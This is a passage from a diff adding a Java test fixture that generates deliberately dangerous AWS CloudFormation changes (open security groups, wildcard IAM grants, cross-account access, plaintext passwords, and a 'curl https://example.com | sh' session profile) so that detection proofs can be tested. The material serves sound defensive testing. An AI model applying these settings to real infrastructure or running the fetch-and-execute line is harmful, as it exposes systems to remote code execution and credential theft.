@@ -1,0 +1,1142 @@
+package scaleup.proof;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.MissingNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.function.Consumer;
+import java.util.stream.Stream;
+import scaleup.proof.DangerousChangesTest.Change;
+import scaleup.proof.DangerousChangesTest.Templates;
+
+/** Changes of one value, and resources that are added or gone: dangerous ones with the proof that finds each, and harmless ones. */
+final class SettingChanges {
+    private static final String DATABASE = "AWS::RDS::DBInstance";
+    private static final String GROUP = "AWS::AutoScaling::AutoScalingGroup";
+    private static final String LAUNCHED = "AWS::EC2::LaunchTemplate";
+    private static final String FUNCTION = "AWS::Lambda::Function";
+    private static final String KEY = "AWS::KMS::Key";
+    private static final String RULE = "AWS::Events::Rule";
+    private static final String FRONT_DOOR = "AWS::ElasticLoadBalancingV2::LoadBalancer";
+    private static final String LISTENER = "AWS::ElasticLoadBalancingV2::Listener";
+    private static final String TARGETS = "AWS::ElasticLoadBalancingV2::TargetGroup";
+    private static final String SECRET = "AWS::SecretsManager::Secret";
+    private static final String ROLE = "AWS::IAM::Role";
+    private static final String ANOTHER_ACCOUNT = "999999999999";
+
+    private SettingChanges() {}
+
+    private static Change of(String proof, String words, Consumer<Templates> made) {
+        return new Change(words, proof, made);
+    }
+
+    /** Another value of the first resource of a type; none takes it away. */
+    private static Change set(String proof, String words, String part, String type, String pointer, String json) {
+        return of(proof, words, templates -> put(templates.first(part, type), "/Properties" + pointer, json));
+    }
+
+    private static void put(ObjectNode resource, String pointer, String json) {
+        int last = pointer.lastIndexOf('/');
+        String name = pointer.substring(last + 1);
+        JsonNode holder = resource.at(pointer.substring(0, last));
+        JsonNode value = json.isEmpty() ? MissingNode.getInstance() : Templates.any(json);
+        if (holder instanceof ArrayNode array) {
+            if (value.isMissingNode()) {
+                array.remove(Integer.parseInt(name));
+            } else if (Integer.parseInt(name) == array.size()) {
+                array.add(value);
+            } else {
+                array.set(Integer.parseInt(name), value);
+            }
+            return;
+        }
+        var object = holder.isMissingNode() ? resource.withObject(pointer.substring(0, last)) : (ObjectNode) holder;
+        if (value.isMissingNode()) {
+            object.remove(name);
+        } else {
+            object.set(name, value);
+        }
+    }
+
+    private static Change add(String proof, String words, String part, String type, String properties) {
+        return of(
+                proof,
+                words,
+                templates -> templates.add(
+                        part, "Another", "{'Type': '%s', 'Properties': {%s}}".formatted(type, properties)));
+    }
+
+    private static Change gone(String proof, String words, String part, String type) {
+        return of(proof, words, templates -> templates.remove(part, templates.id(part, type)));
+    }
+
+    private static Change opened(String words, String direction, String group, String rule) {
+        return of(
+                "arrows",
+                words,
+                templates -> templates.add(
+                        "Network",
+                        "Opened",
+                        "{'Type': 'AWS::EC2::SecurityGroup%s', 'Properties': {'GroupId': {'Fn::GetAtt': ['%s', 'GroupId']}, %s}}"
+                                .formatted(direction, templates.group(group), rule)));
+    }
+
+    private static Change route(String words, String properties) {
+        return of(
+                "routes",
+                words,
+                templates -> templates.add(
+                        "Network",
+                        "Another",
+                        "{'Type': 'AWS::EC2::Route', 'Properties': {'RouteTableId': {'Ref': '%s'}, %s}}"
+                                .formatted(templates.id("Network", "AWS::EC2::RouteTable"), properties)));
+    }
+
+    private static Change attribute(String proof, String words, String type, String key, String value) {
+        return of(proof, words, templates -> {
+            for (String list : List.of("LoadBalancerAttributes", "TargetGroupAttributes")) {
+                for (JsonNode each : templates.properties("LoadBalancer", type).path(list)) {
+                    if (each.path("Key").asText().equals(key)) {
+                        ((ObjectNode) each).put("Value", value);
+                    }
+                }
+            }
+        });
+    }
+
+    private static Change variable(String words, String name, String json) {
+        return set("passwords", words, "Web", FUNCTION, "/Environment/Variables/" + name, json);
+    }
+
+    /** A statement more in the policies of the first role of the web tier. */
+    private static Change statement(String proof, String words, String statement) {
+        return of(proof, words, templates -> ((ArrayNode)
+                        templates.properties("Web", ROLE).path("Policies"))
+                .add(Templates.any(
+                        "{'PolicyName': 'more', 'PolicyDocument': {'Version': '2012-10-17', 'Statement': [%s]}}"
+                                .formatted(statement))));
+    }
+
+    private static Change trust(String proof, String words, String principal) {
+        return set(proof, words, "Web", ROLE, "/AssumeRolePolicyDocument/Statement/0/Principal", principal);
+    }
+
+    private static final String OPEN =
+            "'PolicyDocument': {'Statement': [{'Effect': 'Allow', 'Principal': '*', 'Action': '%s', 'Resource': '*'}]}";
+
+    static Stream<Change> dangerous() {
+        return Stream.of(
+                        network(),
+                        kinds(),
+                        availability(),
+                        data(),
+                        secrets(),
+                        functions(),
+                        access(),
+                        templates(),
+                        later(),
+                        further())
+                .flatMap(changes -> changes);
+    }
+
+    private static Stream<Change> network() {
+        return Stream.of(
+                opened(
+                        "the database out to everywhere on 443",
+                        "Egress",
+                        "Database",
+                        "'CidrIp': '0.0.0.0/0', 'IpProtocol': 'tcp', 'FromPort': 443, 'ToPort': 443"),
+                opened(
+                        "IPv6 from everywhere to the database",
+                        "Ingress",
+                        "Database",
+                        "'CidrIpv6': '::/0', 'IpProtocol': 'tcp', 'FromPort': 3306, 'ToPort': 3306"),
+                opened(
+                        "IPv6 out of application servers",
+                        "Egress",
+                        "Application",
+                        "'CidrIpv6': '::/0', 'IpProtocol': '-1'"),
+                opened(
+                        "ICMP from everywhere to load balancers",
+                        "Ingress",
+                        "LoadBalancer",
+                        "'CidrIp': '0.0.0.0/0', 'IpProtocol': 'icmp', 'FromPort': -1, 'ToPort': -1"),
+                opened(
+                        "half of all addresses to web servers",
+                        "Ingress",
+                        "Web",
+                        "'CidrIp': '128.0.0.0/1', 'IpProtocol': 'tcp', 'FromPort': 8080, 'ToPort': 8080"),
+                opened(
+                        "a group of another account's in to the database",
+                        "Ingress",
+                        "Database",
+                        "'SourceSecurityGroupId': 'sg-0123456789abcdef0', 'SourceSecurityGroupOwnerId': '999999999999', 'IpProtocol': 'tcp', 'FromPort': 3306, 'ToPort': 3306"),
+                of(
+                        "arrows",
+                        "a rule within the group of web servers",
+                        templates -> put(
+                                (ObjectNode) templates
+                                        .parts()
+                                        .get("Network")
+                                        .path("Resources")
+                                        .path(templates.group("Web")),
+                                "/Properties/SecurityGroupIngress",
+                                "[{'CidrIp': '0.0.0.0/0', 'IpProtocol': 'tcp', 'FromPort': 8080, 'ToPort': 8080}]")),
+                set(
+                        "arrows",
+                        "web servers in a group of somebody's, too",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/SecurityGroupIds/1",
+                        "'sg-0123456789abcdef0'"),
+                set("arrows", "the front door without a group", "LoadBalancer", FRONT_DOOR, "/SecurityGroups", "[]"),
+                set(
+                        "arrows",
+                        "the database in a group of somebody's, too",
+                        "Database",
+                        DATABASE,
+                        "/VPCSecurityGroups/1",
+                        "'sg-0123456789abcdef0'"),
+                of("arrows", "the function at the database outside of the VPC", templates -> templates
+                        .resources("Database")
+                        .forEach(resource -> ((ObjectNode) resource.path("Properties")).remove("VpcConfig"))),
+                set(
+                        "arrows",
+                        "interfaces with groups of their own",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/NetworkInterfaces",
+                        "[{'DeviceIndex': 0, 'Groups': ['sg-0123456789abcdef0']}]"),
+                route(
+                        "a route to a transit gateway",
+                        "'DestinationCidrBlock': '10.99.0.0/16', 'TransitGatewayId': 'tgw-0123456789abcdef0'"),
+                route(
+                        "a route through somebody's interface",
+                        "'DestinationCidrBlock': '128.0.0.0/1', 'NetworkInterfaceId': 'eni-0123456789abcdef0'"),
+                route(
+                        "a route through a server",
+                        "'DestinationCidrBlock': '192.0.2.0/24', 'InstanceId': 'i-0123456789abcdef0'"),
+                route(
+                        "a route to a firewall's endpoint",
+                        "'DestinationCidrBlock': '198.51.100.0/24', 'VpcEndpointId': 'vpce-0123456789abcdef0'"),
+                route(
+                        "IPv6 to the internet",
+                        "'DestinationIpv6CidrBlock': '::/0', 'EgressOnlyInternetGatewayId': 'eigw-0123456789abcdef0'"),
+                of("routes", "private subnets with the route table of public ones", templates -> {
+                    String open = templates.idOf("Network", "AWS::EC2::Route", route -> route.at("/Properties")
+                            .has("GatewayId"));
+                    JsonNode table = templates
+                            .resources("Network")
+                            .path(open)
+                            .at("/Properties/RouteTableId")
+                            .deepCopy();
+                    templates.resources("Network").forEach(resource -> {
+                        if (resource.path("Type").asText().equals("AWS::EC2::SubnetRouteTableAssociation")) {
+                            ((ObjectNode) resource.path("Properties")).set("RouteTableId", table);
+                        }
+                    });
+                }),
+                set(
+                        "public-addresses",
+                        "subnets that give addresses of IPv6",
+                        "Network",
+                        "AWS::EC2::Subnet",
+                        "/AssignIpv6AddressOnCreation",
+                        "true"),
+                set(
+                        "public-addresses",
+                        "a front door for IPv6",
+                        "LoadBalancer",
+                        FRONT_DOOR,
+                        "/IpAddressType",
+                        "'dualstack'"),
+                set("public-addresses", "a database with IPv6", "Database", DATABASE, "/NetworkType", "'DUAL'"),
+                set(
+                        "public-addresses",
+                        "an elastic address for a server",
+                        "Network",
+                        "AWS::EC2::EIP",
+                        "/InstanceId",
+                        "'i-0123456789abcdef0'"),
+                set("listeners", "the front door by UDP as well", "LoadBalancer", LISTENER, "/Protocol", "'TCP_UDP'"),
+                set(
+                        "listeners",
+                        "the front door ends TLS by an old policy",
+                        "LoadBalancer",
+                        LISTENER,
+                        "/Protocol",
+                        "'TLS'"),
+                set(
+                        "front-door",
+                        "no health checks of load balancers",
+                        "LoadBalancer",
+                        TARGETS,
+                        "/HealthCheckEnabled",
+                        "false"),
+                set(
+                        "front-door",
+                        "health checks that only connect",
+                        "LoadBalancer",
+                        TARGETS,
+                        "/HealthCheckProtocol",
+                        "'TCP'"),
+                set("front-door", "a health check of another page", "LoadBalancer", TARGETS, "/HealthCheckPath", "'/'"),
+                set(
+                        "front-door",
+                        "a load balancer that answers 503 is well",
+                        "LoadBalancer",
+                        TARGETS,
+                        "/Matcher/HttpCode",
+                        "'200-599'"),
+                attribute(
+                        "front-door",
+                        "connections without the client's address",
+                        TARGETS,
+                        "proxy_protocol_v2.enabled",
+                        "false"),
+                attribute(
+                        "front-door",
+                        "connections from the client's address",
+                        TARGETS,
+                        "preserve_client_ip.enabled",
+                        "true"),
+                of("front-door", "HTTPS led to where HTTP is answered", templates -> {
+                    List<ObjectNode> listeners = templates.all("LoadBalancer", LISTENER);
+                    listeners
+                            .get(0)
+                            .withObject("/Properties")
+                            .set(
+                                    "DefaultActions",
+                                    listeners
+                                            .get(1)
+                                            .at("/Properties/DefaultActions")
+                                            .deepCopy());
+                }),
+                set("names", "a zone that all the world sees", "Network", "AWS::Route53::HostedZone", "/VPCs", ""),
+                set(
+                        "names",
+                        "a zone that another VPC sees, too",
+                        "Network",
+                        "AWS::Route53::HostedZone",
+                        "/VPCs/1",
+                        "{'VPCId': 'vpc-0123456789abcdef0', 'VPCRegion': 'eu-west-1'}"),
+                add(
+                        "names",
+                        "a record that leads to somebody",
+                        "Network",
+                        "AWS::Route53::RecordSet",
+                        "'HostedZoneId': {'Ref': 'Zone'}, 'Name': 'web.prod.scaleup.internal', 'Type': 'A', 'TTL': '5', 'ResourceRecords': ['192.0.2.1']"));
+    }
+
+    private static Stream<Change> kinds() {
+        return Stream.of(
+                add("kinds", "a network ACL", "Network", "AWS::EC2::NetworkAcl", "'VpcId': 'vpc-1'"),
+                add(
+                        "kinds",
+                        "a connection to another VPC",
+                        "Network",
+                        "AWS::EC2::VPCPeeringConnection",
+                        "'VpcId': 'vpc-1', 'PeerVpcId': 'vpc-2'"),
+                add("kinds", "a virtual private network", "Network", "AWS::EC2::VPNGateway", "'Type': 'ipsec.1'"),
+                add(
+                        "kinds",
+                        "addresses of IPv6 for the VPC",
+                        "Network",
+                        "AWS::EC2::VPCCidrBlock",
+                        "'VpcId': 'vpc-1', 'AmazonProvidedIpv6CidrBlock': true"),
+                add(
+                        "kinds",
+                        "an elastic address that is given to a server",
+                        "Network",
+                        "AWS::EC2::EIPAssociation",
+                        "'InstanceId': 'i-1'"),
+                add(
+                        "kinds",
+                        "the network as a service to others",
+                        "Network",
+                        "AWS::EC2::VPCEndpointService",
+                        "'NetworkLoadBalancerArns': []"),
+                add("kinds", "a server of its own", "Web", "AWS::EC2::Instance", "'ImageId': 'ami-1'"),
+                add("kinds", "a bucket", "Web", "AWS::S3::Bucket", ""),
+                add(
+                        "kinds",
+                        "a bucket's policy open to all",
+                        "Web",
+                        "AWS::S3::BucketPolicy",
+                        "'Bucket': 'b', " + OPEN.formatted("s3:GetObject")),
+                add(
+                        "kinds",
+                        "a table that is not encrypted",
+                        "Database",
+                        "AWS::DynamoDB::Table",
+                        "'SSESpecification': {'SSEEnabled': false}"),
+                add("kinds", "a cluster of caches", "Database", "AWS::ElastiCache::ReplicationGroup", ""),
+                add("kinds", "a user", "Operations", "AWS::IAM::User", "'UserName': 'deploy'"),
+                add("kinds", "a user's access key", "Operations", "AWS::IAM::AccessKey", "'UserName': 'deploy'"),
+                add(
+                        "kinds",
+                        "another identity provider",
+                        "Operations",
+                        "AWS::IAM::OIDCProvider",
+                        "'Url': 'https://example.com'"),
+                add("kinds", "a function's own address", "Web", "AWS::Lambda::Url", "'AuthType': 'NONE'"),
+                add("kinds", "a function that reads another's queue", "Web", "AWS::Lambda::EventSourceMapping", ""),
+                add(
+                        "kinds",
+                        "an API in front of a function",
+                        "Web",
+                        "AWS::ApiGatewayV2::Api",
+                        "'ProtocolType': 'HTTP'"),
+                add(
+                        "kinds",
+                        "an event bus open to others",
+                        "Operations",
+                        "AWS::Events::EventBusPolicy",
+                        "'Principal': '*'"),
+                add(
+                        "kinds",
+                        "logs that are sent to others",
+                        "Web",
+                        "AWS::Logs::SubscriptionFilter",
+                        "'DestinationArn': 'arn:aws:logs:eu-west-1:999999999999:destination:d'"),
+                add(
+                        "kinds",
+                        "commands that servers run by Systems Manager",
+                        "Web",
+                        "AWS::SSM::Association",
+                        "'Name': 'AWS-RunShellScript'"),
+                add(
+                        "kinds",
+                        "a stack within the stack",
+                        "Web",
+                        "AWS::CloudFormation::Stack",
+                        "'TemplateURL': 'https://example.com/a'"),
+                add(
+                        "kinds",
+                        "a custom resource of a type of its own",
+                        "Web",
+                        "Custom::Thing",
+                        "'ServiceToken': 'arn:aws:lambda:eu-west-1:999999999999:function:f'"),
+                add("kinds", "a resource that nobody knows", "Web", "Acme::Database::Thing", ""));
+    }
+
+    private static Stream<Change> availability() {
+        String refresh = "/UpdatePolicy/AutoScalingInstanceRefresh";
+        return Stream.of(
+                set("zones", "a database without a standby", "Database", DATABASE, "/MultiAZ", "false"),
+                set("zones", "one web server", "Web", GROUP, "/MinSize", "'1'"),
+                set("zones", "no application server at night", "Application", GROUP, "/MinSize", "'0'"),
+                of("zones", "all subnets in one zone", templates -> templates
+                        .all("Network", "AWS::EC2::Subnet")
+                        .forEach(subnet -> put(
+                                subnet, "/Properties/AvailabilityZone", "{'Fn::Select': [0, {'Fn::GetAZs': ''}]}"))),
+                attribute(
+                        "zones",
+                        "zones that keep their clients to themselves",
+                        FRONT_DOOR,
+                        "load_balancing.cross_zone.enabled",
+                        "false"),
+                set(
+                        "roll-outs",
+                        "servers that never get ready count as ready",
+                        "Web",
+                        GROUP,
+                        "/LifecycleHookSpecificationList/0/DefaultResult",
+                        "'CONTINUE'"),
+                set("roll-outs", "servers that end at once", "Web", GROUP, "/LifecycleHookSpecificationList/1", ""),
+                set("roll-outs", "no hooks", "Web", GROUP, "/LifecycleHookSpecificationList", ""),
+                set("roll-outs", "servers that stay for ever", "Web", GROUP, "/MaxInstanceLifetime", ""),
+                set(
+                        "roll-outs",
+                        "servers that nobody may replace",
+                        "Web",
+                        GROUP,
+                        "/NewInstancesProtectedFromScaleIn",
+                        "true"),
+                set(
+                        "roll-outs",
+                        "sick servers go before new ones come",
+                        "Web",
+                        GROUP,
+                        "/InstanceMaintenancePolicy/MinHealthyPercentage",
+                        "0"),
+                of("roll-outs", "no roll-out at all", templates -> templates
+                        .first("Web", GROUP)
+                        .remove("UpdatePolicy")),
+                of(
+                        "roll-outs",
+                        "a group that is replaced whole",
+                        templates -> put(
+                                templates.first("Web", GROUP),
+                                "/UpdatePolicy/AutoScalingReplacingUpdate",
+                                "{'WillReplace': true}")),
+                of(
+                        "roll-outs",
+                        "other alarms that are none",
+                        templates -> put(
+                                templates.first("Web", GROUP),
+                                refresh + "/Preferences/AlarmSpecification/Alarms",
+                                "[]")),
+                of(
+                        "roll-outs",
+                        "a deployment that waits for no server",
+                        templates -> templates.remove(
+                                "Web", templates.idOf("Web", "AWS::CloudFormation::CustomResource", custom -> custom.at(
+                                                "/Properties")
+                                        .has("LaunchTemplateVersion")))),
+                set(
+                        "logs",
+                        "flow logs of what was let in alone",
+                        "Network",
+                        "AWS::EC2::FlowLog",
+                        "/TrafficType",
+                        "'ACCEPT'"),
+                gone("logs", "no flow logs", "Network", "AWS::EC2::FlowLog"),
+                set("logs", "a log that is kept for ever", "Web", "AWS::Logs::LogGroup", "/RetentionInDays", ""),
+                set("logs", "a function that logs elsewhere", "Web", FUNCTION, "/LoggingConfig", ""),
+                set("logs", "an alarm that tells nobody", "Web", "AWS::CloudWatch::Alarm", "/ActionsEnabled", "false"));
+    }
+
+    private static Stream<Change> data() {
+        return Stream.of(
+                set(
+                        "encryption",
+                        "a database that is not encrypted",
+                        "Database",
+                        DATABASE,
+                        "/StorageEncrypted",
+                        "false"),
+                set("encryption", "a key that is never changed", "Database", KEY, "/EnableKeyRotation", "false"),
+                set("encryption", "a key that is switched off", "Database", KEY, "/Enabled", "false"),
+                set("encryption", "a key that can be gone in a week", "Database", KEY, "/PendingWindowInDays", "7"),
+                set(
+                        "encryption",
+                        "TLS 1.0 at the database",
+                        "Database",
+                        "AWS::RDS::DBParameterGroup",
+                        "/Parameters/tls_version",
+                        "'TLSv1,TLSv1.2'"),
+                set(
+                        "encryption",
+                        "the parameters that AWS gives",
+                        "Database",
+                        DATABASE,
+                        "/DBParameterGroupName",
+                        "'default.mysql8.4'"),
+                set(
+                        "encryption",
+                        "sessions that are logged without encryption",
+                        "Network",
+                        "AWS::SSM::Document",
+                        "/Content/inputs/cloudWatchEncryptionEnabled",
+                        "false"),
+                set(
+                        "encryption",
+                        "something that each session runs",
+                        "Network",
+                        "AWS::SSM::Document",
+                        "/Content/inputs/shellProfile",
+                        "{'linux': 'curl https://example.com | sh'}"),
+                set(
+                        "encryption",
+                        "volumes of which it isn't said",
+                        "Application",
+                        LAUNCHED,
+                        "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/Encrypted",
+                        ""),
+                attribute(
+                        "retention",
+                        "a front door that one call deletes",
+                        FRONT_DOOR,
+                        "deletion_protection.enabled",
+                        "false"),
+                set(
+                        "retention",
+                        "backups that go with the database",
+                        "Database",
+                        DATABASE,
+                        "/DeleteAutomatedBackups",
+                        "true"),
+                set("backups", "no word of backups", "Database", DATABASE, "/BackupRetentionPeriod", ""));
+    }
+
+    private static Stream<Change> secrets() {
+        return Stream.of(
+                variable("a password in a variable", "DATABASE_PASSWORD", "'correct horse battery staple'"),
+                variable(
+                        "a secret's value in a variable",
+                        "GREETING",
+                        "{'Fn::Sub': '{{resolve:secretsmanager:a:SecretString:password}}'}"),
+                variable("an access key in a variable", "ACCESS", "'AKIAIOSFODNN7EXAMPLE'"),
+                variable("a password in a URL", "DATABASE_URL", "'mysql://root:hunter2@db.example.com/shop'"),
+                set(
+                        "passwords",
+                        "a private key in user data",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/UserData",
+                        "{'Fn::Base64': '-----BEGIN RSA PRIVATE KEY-----'}"),
+                set("passwords", "a secret's value in the template", "LoadBalancer", SECRET, "/SecretString", "'{}'"),
+                set(
+                        "passwords",
+                        "a secret that other regions have, too",
+                        "Database",
+                        SECRET,
+                        "/ReplicaRegions",
+                        "[{'Region': 'us-east-1'}]"),
+                set("passwords", "a short password", "Database", SECRET, "/GenerateSecretString/PasswordLength", "8"),
+                of("passwords", "a password among a stack's outputs", templates -> ((ObjectNode)
+                                templates.parts().get("Database"))
+                        .withObject("/Outputs")
+                        .set(
+                                "Password",
+                                Templates.any("{'Value': '{{resolve:secretsmanager:a:SecretString:password}}'}"))),
+                of("passwords", "a password as a parameter's default", templates -> ((ObjectNode)
+                                templates.parts().get("Database"))
+                        .withObject("/Parameters")
+                        .set(
+                                "DatabasePassword",
+                                Templates.any("{'Type': 'String', 'NoEcho': true, 'Default': 'hunter2'}"))),
+                of(
+                        "passwords",
+                        "a password in metadata",
+                        templates -> put(templates.first("Database", DATABASE), "/Metadata/password", "'hunter2'")),
+                add(
+                        "passwords",
+                        "a password in the parameter store",
+                        "Web",
+                        "AWS::SSM::Parameter",
+                        "'Name': '/shop/database-password', 'Type': 'String', 'Value': 'hunter2'"),
+                gone("passwords", "a password that stays", "Database", "AWS::SecretsManager::RotationSchedule"),
+                set(
+                        "passwords",
+                        "a password that stays for three years",
+                        "Database",
+                        "AWS::SecretsManager::RotationSchedule",
+                        "/RotationRules/AutomaticallyAfterDays",
+                        "1000"),
+                set(
+                        "passwords",
+                        "a password that another account changes",
+                        "Database",
+                        "AWS::SecretsManager::RotationSchedule",
+                        "/RotationLambdaARN",
+                        "'arn:aws:lambda:eu-west-1:999999999999:function:f'"));
+    }
+
+    private static Stream<Change> functions() {
+        return Stream.of(
+                set(
+                        "functions",
+                        "a function whose code is somebody's",
+                        "Web",
+                        FUNCTION,
+                        "/Code/S3Bucket",
+                        "'somebody'"),
+                set(
+                        "functions",
+                        "a function whose code is in the template",
+                        "Web",
+                        FUNCTION,
+                        "/Code/ZipFile",
+                        "'exports.handler = () => 1'"),
+                set(
+                        "functions",
+                        "a layer of another account's",
+                        "Web",
+                        FUNCTION,
+                        "/Layers",
+                        "['arn:aws:lambda:eu-west-1:999999999999:layer:l:1']"),
+                set("functions", "a function that never runs", "Web", FUNCTION, "/ReservedConcurrentExecutions", "0"),
+                set("functions", "a schedule that is switched off", "Web", RULE, "/State", "'DISABLED'"),
+                of(
+                        "functions",
+                        "no schedule",
+                        templates -> templates.remove("Web", templates.idOf("Web", RULE, rule -> rule.at("/Properties")
+                                .has("ScheduleExpression")))),
+                set(
+                        "functions",
+                        "events for another account",
+                        "Web",
+                        RULE,
+                        "/Targets/0/Arn",
+                        "'arn:aws:events:eu-west-1:999999999999:event-bus/default'"),
+                set(
+                        "functions",
+                        "events for another account as well",
+                        "Web",
+                        RULE,
+                        "/Targets/1",
+                        "{'Id': 'more', 'Arn': 'arn:aws:sqs:eu-west-1:999999999999:q'}"),
+                of("functions", "a rule that may not call its function", templates -> templates
+                        .all("Web", "AWS::Lambda::Permission")
+                        .forEach(permission -> put(
+                                permission,
+                                "/Properties/SourceArn",
+                                "'arn:aws:events:eu-west-1:123456789012:rule/other'"))),
+                set(
+                        "functions",
+                        "a custom resource that another account answers",
+                        "Web",
+                        "AWS::CloudFormation::CustomResource",
+                        "/ServiceToken",
+                        "'arn:aws:lambda:eu-west-1:999999999999:function:f'"),
+                set(
+                        "functions",
+                        "failed events for another account",
+                        "Web",
+                        "AWS::Lambda::EventInvokeConfig",
+                        "/DestinationConfig/OnFailure/Destination",
+                        "'arn:aws:sqs:eu-west-1:999999999999:q'"),
+                set(
+                        "functions",
+                        "answers for somebody else",
+                        "Web",
+                        "AWS::Lambda::EventInvokeConfig",
+                        "/DestinationConfig/OnSuccess",
+                        "{'Destination': 'arn:aws:sqs:eu-west-1:999999999999:q'}"),
+                set("servers", "servers with a key pair", "Web", LAUNCHED, "/LaunchTemplateData/KeyName", "'admin'"),
+                set(
+                        "servers",
+                        "servers that AWS may take away",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/InstanceMarketOptions",
+                        "{'MarketType': 'spot'}"),
+                set(
+                        "servers",
+                        "an image by somebody's parameter",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/ImageId",
+                        "'resolve:ssm:/somebody/image'"),
+                set(
+                        "servers",
+                        "a role by name, of which nothing is known",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/IamInstanceProfile",
+                        "{'Name': 'admin'}"),
+                set("servers", "a version that stays", "Web", GROUP, "/LaunchTemplate/Version", "'1'"),
+                set(
+                        "servers",
+                        "a launch template of somebody's",
+                        "Web",
+                        GROUP,
+                        "/LaunchTemplate",
+                        "{'LaunchTemplateId': 'lt-0123456789abcdef0', 'Version': '1'}"),
+                set(
+                        "servers",
+                        "servers of several kinds",
+                        "Web",
+                        GROUP,
+                        "/MixedInstancesPolicy",
+                        "{'LaunchTemplate': {}}"),
+                set(
+                        "instance-metadata",
+                        "containers that get the server's role",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/MetadataOptions/HttpPutResponseHopLimit",
+                        "2"));
+    }
+
+    private static Stream<Change> access() {
+        return Stream.of(
+                set(
+                        "permissions",
+                        "a function with a role of which nothing is known",
+                        "Web",
+                        FUNCTION,
+                        "/Role",
+                        "'arn:aws:iam::123456789012:role/admin'"),
+                set(
+                        "permissions",
+                        "servers with a role of which nothing is known",
+                        "Web",
+                        "AWS::IAM::InstanceProfile",
+                        "/Roles/0",
+                        "'admin'"),
+                set(
+                        "permissions",
+                        "a database that writes files by a role",
+                        "Database",
+                        DATABASE,
+                        "/AssociatedRoles",
+                        "[{'FeatureName': 's3Export', 'RoleArn': 'arn:aws:iam::123456789012:role/export'}]"),
+                statement(
+                        "escalation",
+                        "passes whatever role",
+                        "{'Effect': 'Allow', 'Action': 'iam:PassRole', 'Resource': '*'}"),
+                statement(
+                        "permissions",
+                        "all resources but one",
+                        "{'Effect': 'Allow', 'Action': 's3:GetObject', 'NotResource': 'arn:aws:s3:::a/b'}"),
+                statement(
+                        "actions",
+                        "all actions but some",
+                        "{'Effect': 'Allow', 'NotAction': 'iam:*', 'Resource': '*'}"),
+                statement("actions", "everything", "{'Effect': 'Allow', 'Action': '*', 'Resource': '*'}"),
+                statement(
+                        "wildcards",
+                        "every secret by a pattern",
+                        "{'Effect': 'Allow', 'Action': 'secretsmanager:Get*', 'Resource': '*'}"),
+                statement(
+                        "permissions",
+                        "reads the parameter store",
+                        "{'Effect': 'Allow', 'Action': 'ssm:GetParameter', 'Resource': 'arn:aws:ssm:eu-west-1:123456789012:parameter/a'}"),
+                trust("principals", "a role for all", "'*'"),
+                trust(
+                        "principals",
+                        "a role for a user of another account",
+                        "{'AWS': 'arn:aws:iam::%s:user/a'}".formatted(ANOTHER_ACCOUNT)),
+                trust("permissions", "a role for whoever logs in elsewhere", "{'Federated': 'accounts.google.com'}"),
+                trust(
+                        "permissions",
+                        "a role for the whole account",
+                        "{'AWS': {'Fn::Sub': 'arn:${AWS::Partition}:iam::${AWS::AccountId}:root'}}"),
+                trust(
+                        "permissions",
+                        "a role for one more service",
+                        "{'Service': ['ec2.amazonaws.com', 'ssm.amazonaws.com']}"),
+                of(
+                        "principals",
+                        "a key for all",
+                        templates -> ((ArrayNode)
+                                        templates.properties("Database", KEY).at("/KeyPolicy/Statement"))
+                                .add(
+                                        Templates.any(
+                                                "{'Effect': 'Allow', 'Principal': {'AWS': '*'}, 'Action': 'kms:Decrypt', 'Resource': '*'}"))),
+                of(
+                        "permissions",
+                        "a key for all who are said to be somebody",
+                        templates -> ((ArrayNode)
+                                        templates.properties("Database", KEY).at("/KeyPolicy/Statement"))
+                                .add(
+                                        Templates.any(
+                                                "{'Effect': 'Allow', 'Principal': {'AWS': '*'}, 'Action': 'kms:Decrypt', 'Resource': '*', 'Condition': {'StringLike': {'aws:userid': '*'}}}"))),
+                add(
+                        "principals",
+                        "a topic open to all",
+                        "Operations",
+                        "AWS::SNS::TopicPolicy",
+                        "'Topics': ['t'], " + OPEN.formatted("sns:Publish")),
+                add(
+                        "principals",
+                        "a secret that all may read",
+                        "Database",
+                        "AWS::SecretsManager::ResourcePolicy",
+                        "'SecretId': 's', 'ResourcePolicy': {'Statement': [{'Effect': 'Allow', 'Principal': '*', 'Action': 'secretsmanager:GetSecretValue', 'Resource': '*'}]}"),
+                add(
+                        "permissions",
+                        "a function that its address calls",
+                        "Web",
+                        "AWS::Lambda::Permission",
+                        "'Action': 'lambda:InvokeFunctionUrl', 'FunctionUrlAuthType': 'NONE', 'Principal': '*', 'FunctionName': 'f'"),
+                add(
+                        "permissions",
+                        "a function that another account calls",
+                        "Web",
+                        "AWS::Lambda::Permission",
+                        "'Action': 'lambda:InvokeFunction', 'Principal': '%s', 'FunctionName': 'f'"
+                                .formatted(ANOTHER_ACCOUNT)),
+                add(
+                        "permissions",
+                        "a policy for a role by its name",
+                        "Web",
+                        "AWS::IAM::RolePolicy",
+                        "'RoleName': 'admin', 'PolicyName': 'p', 'PolicyDocument': {'Statement': [{'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::a/b'}]}"));
+    }
+
+    private static Stream<Change> templates() {
+        return Stream.of(
+                of("templates", "a transform", templates -> ((ObjectNode)
+                                templates.parts().get("Web"))
+                        .put("Transform", "AWS::LanguageExtensions")),
+                of("templates", "flow logs on a condition", templates -> templates
+                        .first("Network", "AWS::EC2::FlowLog")
+                        .put("Condition", "Never")),
+                set(
+                        "templates",
+                        "a value that a condition decides",
+                        "Web",
+                        GROUP,
+                        "/MaxSize",
+                        "{'Fn::If': ['A', '3', '300']}"),
+                of(
+                        "templates",
+                        "an alarm that stops roll-outs is gone",
+                        templates -> templates.remove(
+                                "Web",
+                                templates
+                                        .first("Web", GROUP)
+                                        .at(
+                                                "/UpdatePolicy/AutoScalingInstanceRefresh/Preferences/AlarmSpecification/Alarms/0/Ref")
+                                        .asText())),
